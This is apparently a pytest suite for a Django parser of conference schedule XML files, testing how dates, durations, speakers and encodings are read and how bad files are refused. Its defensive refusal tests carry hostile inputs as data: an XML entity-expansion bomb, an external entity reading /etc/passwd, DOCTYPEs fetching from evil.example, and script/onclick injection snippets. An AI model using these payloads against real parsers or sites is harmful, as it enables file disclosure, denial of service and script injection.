"""What is read from a schedule.xml, what is tolerated, and what is refused."""

import datetime as dt
import os
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from django.conf import settings

from events.models import SessionKind
from events.schedule_formats import MAX_BYTES, PersonEntry, Schedule, ScheduleError, parse, values
from tests.events.schedules import DAY, FORUM, event_xml, schedule_xml

TOKYO = ZoneInfo("Asia/Tokyo")
SCHEDULES = (
    Path(os.environ.get("PLENARY_SHARED") or settings.BASE_DIR.parent / "shared") / "data" / "schedules"
)


def refusal(content: bytes) -> list[str]:
    with pytest.raises(ScheduleError) as refused:
        parse(content)
    return [str(problem) for problem in refused.value.problems]


def warnings(schedule: Schedule) -> list[str]:
    return [str(warning) for warning in schedule.warnings]


def only_session(content: bytes, **options):
    (session,) = parse(content, **options).sessions
    return session


# --- What is read --------------------------------------------------------------------------


def test_a_schedule_says_what_the_event_is():
    forum = parse(FORUM)
    assert (forum.title, forum.subtitle) == ("Harbour & Orbit Forum", "Two days on ships and satellites")
    assert (forum.venue.name, forum.venue.city) == ("Old Customs House", "Brussels")
    assert forum.website == "https://forum.example/schedule/"
    assert (forum.time_zone, forum.day_changes_at) == ("Europe/Brussels", dt.time(4))
    assert forum.rooms == ("Great Hall", "Pier 4")
    assert forum.tracks == ("Orbit", "Sea")
    assert forum.content_language == "en"


def test_a_session_is_read_with_its_people():
    opening, night, workshop = parse(FORUM).sessions

    assert opening.external_id == "7f4cf1f5-3d0e-5a0e-9c0f-0d6f1d6f0001"
    assert opening.starts_at == dt.datetime(2031, 5, 15, 7, tzinfo=dt.UTC)
    assert opening.ends_at - opening.starts_at == dt.timedelta(minutes=30)
    assert (opening.title, opening.abstract, opening.room, opening.track) == (
        "Opening",
        "Welcome to **all**.",
        "Great Hall",
        "Sea",
    )
    assert (opening.kind, opening.language, opening.is_recorded) == (SessionKind.OPENING, "en", True)
    assert opening.people == (PersonEntry("11", "Ada Byron", "Counts engines."),)

    assert night.starts_at == dt.datetime(2031, 5, 15, 23, 30, tzinfo=dt.UTC)
    assert (night.kind, night.is_recorded) == (SessionKind.PANEL, False)
    assert night.abstract == "Plain text with *stars*."
    assert night.people == (PersonEntry("12", "Geraldine de Bastion"), PersonEntry("13", "Ada Byron"))

    assert workshop.ends_at - workshop.starts_at == dt.timedelta(days=1, hours=6)
    assert (workshop.kind, workshop.is_recorded, workshop.track) == (SessionKind.WORKSHOP, None, "")


def test_what_is_left_out_is_said_once_with_its_first_place():
    assert warnings(parse(FORUM)) == [
        "Ada Byron stands under 2 identifiers (11, 13): as many speakers come in.",
        "line 38, event 1 “Opening”: 1 link is left out.",
        "line 39, event 1 “Opening”: 1 attachment is left out.",
        "line 63, event 3 “Long workshop”: 1 event names no language.",
    ]


@pytest.mark.parametrize(
    ("elements", "starts_at"),
    [
        ({"date": "2031-05-15T23:00:00+09:00"}, dt.datetime(2031, 5, 15, 23, tzinfo=TOKYO)),
        ({"date": "2031-05-15T23:00:00"}, dt.datetime(2031, 5, 15, 23, tzinfo=TOKYO)),
        ({"date": "2031-05-15T14:00:00Z"}, dt.datetime(2031, 5, 15, 23, tzinfo=TOKYO)),
        ({"date": "2031-05-15", "start": "23:00"}, dt.datetime(2031, 5, 15, 23, tzinfo=TOKYO)),
        ({"date": "", "start": "23:00:00"}, dt.datetime(2031, 5, 15, 23, tzinfo=TOKYO)),
        ({"date": "", "start": "01:00"}, dt.datetime(2031, 5, 16, 1, tzinfo=TOKYO)),
        ({"date": "2031-05-16", "start": "01:00"}, dt.datetime(2031, 5, 16, 1, tzinfo=TOKYO)),
    ],
)
def test_a_beginning_is_an_instant_or_a_date_with_a_clock_in_the_files_zone(elements, starts_at):
    assert only_session(schedule_xml(event_xml(**elements))).starts_at == starts_at


def test_a_clock_without_a_zone_stands_where_the_caller_says():
    content = schedule_xml(event_xml(date="2031-05-15T09:00:00"), conference="<title>Forum</title>")
    assert only_session(content, zone=TOKYO).starts_at == dt.datetime(2031, 5, 15, 9, tzinfo=TOKYO)
    assert refusal(content) == [
        "line 1, event 1 “Session 1”: The time has no zone, and the file names none: "
        "say where the event’s clocks stand."
    ]


@pytest.mark.parametrize(
    ("text", "length"),
    [
        ("00:45", dt.timedelta(minutes=45)),
        ("1:30", dt.timedelta(hours=1, minutes=30)),
        ("36:00", dt.timedelta(hours=36)),
        ("01:30:00", dt.timedelta(hours=1, minutes=30)),
        ("2:06:00", dt.timedelta(days=2, hours=6)),
        ("1:45:00", dt.timedelta(hours=1, minutes=45)),
        ("-00:30", dt.timedelta(minutes=-30)),
    ],
)
def test_durations_come_in_three_shapes(text, length):
    assert values.duration(text) == length


@pytest.mark.parametrize(
    "text", ["", "30", "1:5", "1:60", "01:75:00", "half an hour", "1:00:00:00", "٣٠:٠٠:xx"]
)
def test_what_is_not_a_duration_is_refused(text):
    with pytest.raises(values.NotReadable):
        values.duration(text)


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("Keynote", SessionKind.KEYNOTE),
        ("Invited talk(30min)", SessionKind.TALK),
        ("Hands-on session(45min)", SessionKind.WORKSHOP),
        ("lecture", SessionKind.TALK),
        ("Panel discussion", SessionKind.PANEL),
        ("Coffee break", SessionKind.BREAK),
        ("Closing ceremony", SessionKind.CLOSING),
        ("基調講演", SessionKind.KEYNOTE),
        ("performance", SessionKind.OTHER),
        ("breakfast", None),
        ("", None),
    ],
)
def test_a_type_says_the_kind_or_nothing(text, kind):
    assert values.kind(text) == kind


@pytest.mark.parametrize(
    "person",
    [
        '<person id="7">Ada Byron</person>',
        '<person id="7" name="Ada Byron"/>',
        '<person id="7"><name>Ada Byron</name></person>',
        '<person id="7"><public_name>Ada Byron</public_name></person>',
    ],
)
def test_a_name_is_written_in_many_ways(person):
    event = event_xml(extra=f"<persons>{person}</persons>")
    (ada,) = only_session(schedule_xml(event)).people
    assert ada == PersonEntry("7", "Ada Byron")


def test_most_sessions_in_japanese_make_the_texts_japanese():
    events = [event_xml(1, language="ja"), event_xml(2, language="ja-JP"), event_xml(3, language="en")]
    assert parse(schedule_xml(*events)).content_language == "ja"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "iso-8859-1", "shift_jis"])
def test_a_file_is_read_in_the_encoding_that_it_declares(encoding):
    title = "軌道" if encoding in ("utf-8", "utf-16", "shift_jis") else "Übersicht"
    text = f'<?xml version="1.0" encoding="{encoding}"?>' + schedule_xml(event_xml(title=title)).decode()
    assert only_session(text.encode(encoding)).title == title


def test_markup_written_as_elements_is_read_like_markup_written_as_text():
    session = only_session(schedule_xml(event_xml(abstract="<p>One <b>two</b></p><ul><li>three</li></ul>")))
    assert session.abstract == "One **two**\n\n- three"


def test_a_description_that_repeats_the_abstract_is_dropped():
    session = only_session(schedule_xml(event_xml(abstract="Same.", description="Same.")))
    assert (session.abstract, session.description) == ("Same.", "")


# --- What is tolerated ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("event", "warning"),
    [
        (event_xml(attributes='id="4"'), "event 4 “Session 1”: 1 event has no guid; it is known by its id."),
        (
            event_xml(attributes='guid="abc" id="4"'),
            "event 4 “Session 1”: 1 event has a guid that is not a UUID; it is taken as it stands.",
        ),
        (event_xml(language="English"), "“English” is not a language tag such as en or ja; it is left out."),
        (event_xml(language=""), "1 event names no language."),
        (
            event_xml(start="08:00"),
            "<start> says 08:00, but <date> 2031-05-15T09:30:00+09:00; <date> is taken.",
        ),
        (event_xml(room="Attic"), "<room> says “Attic”, but the event stands in “Hall”, which is taken."),
        (event_xml(title="T" * 301), "<title> is shortened to 300 characters."),
        (event_xml(extra="<persons><person id='1'/></persons>"), "A person without a name is left out."),
        (
            event_xml(abstract="&lt;p onclick='x'&gt;Hi&lt;script&gt;alert(1)&lt;/script&gt;&lt;/p&gt;"),
            "event 1 “Session 1”: Removed from <abstract>: onclick, script.",
        ),
        (event_xml(title="Hi &lt;script&gt;alert(1)&lt;/script&gt;"), "Removed from <title>: script."),
    ],
)
def test_what_can_be_understood_is_taken_with_a_warning(event, warning):
    schedule = parse(schedule_xml(event))
    assert len(schedule.sessions) == 1
    assert len(schedule.warnings) == 1
    assert warning in warnings(schedule)[0]
    assert warnings(schedule)[0].startswith("line 1, event ")


@pytest.mark.parametrize("duration", ["00:00", "-00:30"])
def test_a_session_that_takes_no_time_comes_in_without_a_time(duration):
    schedule = parse(schedule_xml(event_xml(1), event_xml(2, duration=duration)))
    assert (schedule.sessions[1].starts_at, schedule.sessions[1].ends_at) == (None, None)
    assert "ends before or as it starts; it comes in without a time" in warnings(schedule)[0]


def test_two_events_of_one_identifier_stay_two():
    again = event_xml(2, attributes='guid="00000000-0000-5000-8000-000000000001"')
    schedule = parse(schedule_xml(event_xml(1), again))
    first, second = schedule.sessions
    assert second.external_id == f"{first.external_id}#2"
    assert f"Another event has the identifier {first.external_id} already." in warnings(schedule)[0]


def test_sessions_that_overlap_in_a_room_are_told():
    schedule = parse(schedule_xml(event_xml(1, duration="01:00"), event_xml(2)))
    assert warnings(schedule) == [
        "line 1, event 2 “Session 2”: It begins in Hall before event 1 “Session 1” has ended."
    ]


def test_an_unknown_zone_of_the_file_is_told_and_left_out():
    conference = "<title>Forum</title><time_zone_name>Mars/Olympus</time_zone_name>"
    schedule = parse(schedule_xml(event_xml(), conference=conference))
    assert schedule.time_zone == ""
    assert "“Mars/Olympus” is not a time zone of the IANA database." in warnings(schedule)[0]


# --- What is refused -----------------------------------------------------------------------


def test_every_problem_is_told_with_its_line():
    content = b"\n".join(
        [
            b"<schedule><conference><title>Forum</title></conference>",
            f"<day {DAY}><room name='Hall'>".encode(),
            event_xml(1, title="").encode(),
            event_xml(2, duration="").encode(),
            event_xml(3, date="").encode(),
            event_xml(4, attributes="").encode(),
            event_xml(5, date="2031-02-31T09:00:00+09:00", duration="soon").encode(),
            event_xml(6, date="9999-12-31T23:00:00-12:00").encode(),
            b"</room></day></schedule>",
        ]
    )
    assert refusal(content) == [
        "line 3, event 1: <title> is missing or empty.",
        "line 4, event 2 “Session 2”: <duration> is missing or empty.",
        "line 5, event 3 “Session 3”: <date> with a time, or <start>, is missing or empty.",
        "line 6, event ? “Session 4”: The event has neither a guid nor an id: "
        "a second import could not know it again.",
        "line 7, event 5 “Session 5”: “2031-02-31T09:00:00+09:00” is not a date with a time; "
        "write it like 2030-05-15T09:30:00+09:00.",
        "line 7, event 5 “Session 5”: “soon” is not a duration; write it like 01:30.",
        "line 8, event 6 “Session 6”: “9999-12-31T23:00:00-12:00” is not a date with a time; "
        "write it like 2030-05-15T09:30:00+09:00.",
    ]


BOMB = (
    "<!DOCTYPE schedule ["
    '<!ENTITY a "aaaaaaaaaa">'
    + "".join(
        f'<!ENTITY {after} "{f"&{before};" * 10}">'
        for before, after in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]><schedule><conference><title>&i;</title></conference></schedule>"
)


@pytest.mark.parametrize(
    "content",
    [
        BOMB.encode(),
        BOMB.encode("utf-16"),
        b'<!DOCTYPE schedule [<!ENTITY x SYSTEM "file:///etc/passwd">]><schedule><day>&x;</day></schedule>',
        b'<!DOCTYPE schedule SYSTEM "https://evil.example/schedule.dtd"><schedule/>',
        b'<!DOCTYPE schedule [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]><schedule/>',
        b"<!-- first --><!DOCTYPE schedule><schedule/>",
    ],
)
def test_a_document_type_is_refused_before_it_can_do_anything(content):
    (problem,) = refusal(content)
    assert problem.startswith("line 1: The file has a document type declaration (<!DOCTYPE>).")


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (b"<schedule>\n<day>\n</schedule>", "line 3: This is not well-formed XML"),
        (b"<schedule>&undefined;</schedule>", "line 1: This is not well-formed XML"),
        (b'<?xml version="1.0" encoding="klingon"?><schedule/>', "line 1: This is not well-formed XML"),
        (b"<schedule>\xff\xfe</schedule>", "line 1: This is not well-formed XML"),
        (b"<iCalendar/>", "line 1: The document begins with <iCalendar>; a schedule begins with <schedule>."),
        (b"<schedule/>", "line 1: The schedule has no session with a time: there is nothing to bring in."),
        (schedule_xml(event_xml(duration="00:00")), "The schedule has no session with a time"),
        (b" " * (MAX_BYTES + 1), "The file has more than 20 megabytes."),
        (b"<a>" * 400 + b"</a>" * 400, "line 1: This is not well-formed XML"),
    ],
)
def test_what_is_not_a_schedule_is_refused(content, problem):
    (told,) = refusal(content)
    assert told.startswith(problem) or problem in told


# --- Real files ----------------------------------------------------------------------------


@pytest.mark.skipif(not SCHEDULES.is_dir(), reason="the shared schedules are not here (PLENARY_SHARED)")
@pytest.mark.parametrize(
    ("name", "zone", "sessions", "rooms", "people"),
    [
        ("fosdem-2026.schedule.xml", "Europe/Brussels", 883, 30, 927),
        ("31c3.schedule.xml", "", 138, 4, 198),
        ("emf-2024.schedule.xml", "", 482, 44, 331),
        ("pyconjp-2020.derived-frab.xml", "Asia/Tokyo", 65, 6, 56),
    ],
)
def test_real_schedules_are_read_whole(name, zone, sessions, rooms, people):
    schedule = parse((SCHEDULES / name).read_bytes())
    assert schedule.time_zone == zone
    assert (len(schedule.sessions), len(schedule.rooms), len(schedule.people)) == (sessions, rooms, people)
    assert all(session.starts_at and session.title for session in schedule.sessions)
    assert not any(
        "<p>" in session.abstract or "<script" in session.abstract for session in schedule.sessions
    )
